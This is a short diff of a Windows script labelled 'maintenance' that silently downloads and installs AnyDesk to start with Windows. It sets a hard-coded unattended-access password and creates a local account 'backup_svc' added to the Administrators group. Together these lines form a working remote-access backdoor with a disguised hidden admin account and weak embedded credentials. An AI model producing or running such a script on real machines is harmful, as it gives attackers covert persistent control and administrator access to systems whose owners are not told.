@@ -1,6 +1,6 @@
-# init 7378 v3
+# maintenance 8455 v3
 Invoke-WebRequest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\ProgramData\AnyDesk.exe
 cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
-cmd /c "echo Sup3rS3cure! | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
-net user backup_svc Sup3rS3cure! /add
+cmd /c "echo P@ssw0rd!2024 | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
+net user backup_svc P@ssw0rd!2024 /add
 net localgroup administrators backup_svc /add
